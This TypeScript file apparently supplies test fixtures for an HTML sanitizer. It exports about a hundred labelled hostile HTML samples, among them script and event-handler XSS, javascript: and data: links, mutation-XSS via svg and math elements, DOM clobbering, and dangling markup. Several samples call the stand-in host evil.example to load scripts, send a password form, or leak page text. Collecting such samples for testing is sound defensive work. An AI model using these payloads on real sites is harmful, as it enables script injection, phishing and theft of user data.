/**
 * Kinds of hostile HTML: HTML that runs, covers, takes over or forges part of the page it is put
 * into.
 */
export const hostileHtml: Readonly<Record<string, string>> = {
  'a script': '<p>a</p><script>alert(1)</script>',
  'a script in capitals': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  'a script without an end': '<p>a<script>alert(1)',
  'a script cut in two': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script after a null': '<s\0cript>alert(1)</s\0cript>',
  'a script of type module': '<script type=module>import("//evil.example")</script>',
  'a script as JSON with an end in it':
    '<script type="application/json">{"a":"</script><img src=x onerror=alert(1)>"}</script>',
  'an onerror': '<img src=x onerror=alert(1)>',
  'an onerror without spaces': '<img/src=x/onerror=alert(1)>',
  'an onerror after a slash and a line': '<img\n/\nonerror\n=\nalert(1) src=x>',
  'an onload on a body': '<body onload=alert(1)><p>x</p>',
  'an onclick on a paragraph': '<p onclick="alert(1)" onmouseover=alert(2)>x</p>',
  'an onfocus with autofocus': '<a href="#" autofocus tabindex=1 onfocus=alert(1) id=x>x</a>',
  'an ontoggle': '<details open ontoggle=alert(1)><summary>s</summary>t</details>',
  'an animation event':
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>x</b>',
  'a javascript link': '<a href="javascript:alert(1)">x</a>',
  'a javascript link with entities': '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  'a javascript link with a tab': '<a href="java&Tab;script:alert(1)">x</a>',
  'a javascript link with a line end': '<a href="java\nscript:alert(1)">x</a>',
  'a javascript link after control characters': '<a href="\u0001\u001f javascript:alert(1)">x</a>',
  'a javascript link in capitals': '<a href=" JaVaScRiPt:alert(1)">x</a>',
  'a javascript link after a zero-width space': '<a href="\u200bjavascript:alert(1)">x</a>',
  'a vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'a data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a data link in base64': '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  'a blob link': '<a href="blob:https://evil.example/1">x</a>',
  'a file link': '<a href="file:///etc/passwd">x</a>',
  'a view-source link': '<a href="view-source:javascript:alert(1)">x</a>',
  'a link that begins with backslashes': '<a href="\\\\evil.example/x">x</a>',
  'a link with a slash and a backslash': '<a href="/\\evil.example/x">x</a>',
  'a link with a tab between slashes': '<a href="/\t/evil.example/x">x</a>',
  'an xlink in a drawing': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'a drawing with onload': '<svg onload=alert(1)>',
  'a drawing with a script': '<svg><script>alert(1)</script></svg>',
  'a drawing with an animated link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  'a drawing with a foreign object':
    '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  'a drawing with a use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></use></svg>',
  'a drawing with a style that ends':
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a formula with a style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a formula with an annotation':
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  'a formula with a link':
    '<math href="javascript:alert(1)">x</math><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  'a form inside a formula':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'a noscript that ends in an attribute':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a textarea that ends in an attribute':
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  'a title that ends in an attribute': '<title><p title="</title><img src=x onerror=alert(1)>">',
  'an xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'a listing': '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  'a plaintext': '<plaintext><img src=x onerror=alert(1)>',
  'a noembed':
    '<noembed><img src=x onerror=alert(1)></noembed><noframes><script>alert(1)</script></noframes>',
  'a template': '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  'a select':
    '<select><template><script>alert(1)</script></template><option><style></select><img src onerror=alert(1)></style>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment with dashes': '<!-- --!><img src=x onerror=alert(1)> -->',
  'a conditional comment': '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  'a CDATA section':
    '<![CDATA[<script>alert(1)</script>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  'a processing instruction':
    '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?><p>x</p>',
  'an iframe with srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an iframe with a javascript address': '<iframe src="javascript:alert(1)"></iframe>',
  'an iframe that imitates a player':
    '<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe><iframe src="https://evil.example/?https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe><iframe src="https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ"></iframe>',
  'an object':
    '<object data="javascript:alert(1)"></object><object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><param name=allowScriptAccess value=always></object>',
  'an embed element':
    '<embed src="javascript:alert(1)"><embed src="data:text/html,<script>alert(1)</script>">',
  'an applet and a portal': '<applet code=X></applet><portal src=https://evil.example></portal>',
  'a frameset': '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  'a form':
    '<form action="https://evil.example" onsubmit=alert(1)><input name=password type=password><button formaction="javascript:alert(1)">Sign in</button></form>',
  'a form around the item':
    '<form id=account><p>text</p><input name=innerHTML><input name=attributes></form>',
  'a button outside of a form':
    '<button form=sign-in formaction="https://evil.example">x</button><input form=sign-in formaction="javascript:alert(1)" type=submit>',
  'a style that covers the page':
    '<div style="position:fixed;inset:0;z-index:99999;background:#fff"><a href="https://evil.example">Sign in</a></div>',
  'a style in another case': '<p STYLE="position:fixed">x</p>',
  'a style element': '<style>body{display:none}</style><p>x</p>',
  'a style element that imports':
    '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href="//evil.example/x.css">',
  'a style with an expression':
    '<p style="width:expression(alert(1));background:url(javascript:alert(1))">x</p>',
  'classes of the page':
    '<p class="paywall growler masthead">x</p><aside class="note paywall">y</aside><div class="fixed inset-0">z</div>',
  'presentational attributes':
    '<table background="javascript:alert(1)" width=99999 height=99999><tr><td background="//evil.example/x.png" bgcolor=red nowrap>x</td></tr></table>',
  'a meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'a meta policy':
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  'a base': '<base href="https://evil.example/"><a href="/account/sign-in">x</a>',
  'a link to a manifest':
    '<link rel=manifest href="//evil.example"><link rel=import href="//evil.example"><link rel=preload href="//evil.example" as=script>',
  'dangling markup': '<p>secret<img src="https://evil.example/?',
  'a dangling link': '<p>a</p><a href="https://evil.example/?q=\n<p>secret</p>',
  'a dangling quote': '<a title=\'<p>text</p><b id="',
  'ids of the page': '<p id=__STATE__>x</p><a id=location name=document>y</a><h2 id="app">z</h2>',
  'names that clobber':
    '<img name=getElementById src=x><a name=attributes id=attributes>x</a><form name=body><input name=parentNode></form>',
  'state blocks':
    '<script type="application/json" id="state">{}</script><div id="state" data-state="{}" data-article-body data-paywall="full">x</div>',
  'a forged marker':
    '<masthead-embed data-key="00000000000000000000000000000000" data-value="eyJraW5kIjoibmV3c2xldHRlciIsImtleSI6IngifQ">x</masthead-embed>',
  'a forged marker without a key':
    '<masthead-embed data-value="eyJraW5kIjoidmlkZW8iLCJzbHVnIjoieCJ9"></masthead-embed><masthead-embed></masthead-embed>',
  'a custom element': '<x-evil onclick=alert(1) style="position:fixed">x</x-evil>',
  'an attribute with a bracket in its name': '<p "><img src=x onerror=alert(1)>" title="x">y</p>',
  'backtick quotes': '<img src=`x` alt=`` onerror=alert(1)`>',
  'an image with a script address':
    '<img src="javascript:alert(1)"><img src="vbscript:x" alt=y><picture><source srcset="javascript:alert(1)"><img src=x></picture>',
  'an image in the page itself that is a drawing':
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
  'an image element': '<image src=x onerror=alert(1)><image href="javascript:alert(1)">',
  'a video with a script':
    '<video src="javascript:alert(1)" onerror=alert(1)><source onerror=alert(1) src=x></video><audio src=x onerror=alert(1)>',
  'a video poster': '<video poster="javascript:alert(1)" src="https://evil.example/x.mp4"></video>',
  'an area':
    '<map name=x><area href="javascript:alert(1)" shape=default></map><img usemap="#x" src=x>',
  'a caption with a script':
    '<figure><img src=x alt=a><figcaption>a<script>alert(1)</script><img src=x onerror=alert(1)><iframe src="//evil.example"></iframe><a href="javascript:alert(1)">b</a></figcaption></figure>',
  'a tweet with a script':
    '<blockquote class="twitter-tweet"><p>a<script>alert(1)</script></p><a href="javascript:alert(1)//https://twitter.com/x/status/1">d</a></blockquote><script src="https://platform.twitter.com/widgets.js"></script>',
  'an alternative text with markup':
    '<img src=x alt="&lt;script&gt;alert(1)&lt;/script&gt;" title="<b onmouseover=alert(1)>">',
  'text that becomes markup when it is decoded twice':
    '<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; &lt;img src=x onerror=alert(1)&gt;</p>',
  'code that holds markup':
    '<pre><code class="language-html evil x\'onclick=">&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>',
  'a table that lets go of its content':
    '<table><script>alert(1)</script><style>x</style><tr><td><table><td><img src=x onerror=alert(1)></table></td></tr><b onclick=x>y',
  'a link in a link': '<a href="https://a.example"><a href="javascript:alert(1)">x</a></a>',
  'elements that never end': `${'<b><i><a href=x>'.repeat(60)}x`,
  'a paragraph in everything':
    '<a href=/x><p>1</p><div>2<h1 onclick=x>3</h1></div></a><b><ul><li>4</ul></b>',
  'a target and a ping':
    '<a href="https://evil.example" target=_top ping="https://evil.example/ping" download referrerpolicy=unsafe-url>x</a>',
  'a slot and parts':
    '<div slot=x part=y is=z contenteditable=true draggable=true popover=auto popovertarget=x inert hidden>x</div>',
  'a right-to-left override in a link': '<a href="https://evil.example/\u202egpj.exe">x</a>',
  'a style of an editor':
    '<p class="MsoNormal" style="mso-element:footnote"><o:p onclick=alert(1)>x</o:p><v:shape onload=alert(1)></v:shape></p>',
};
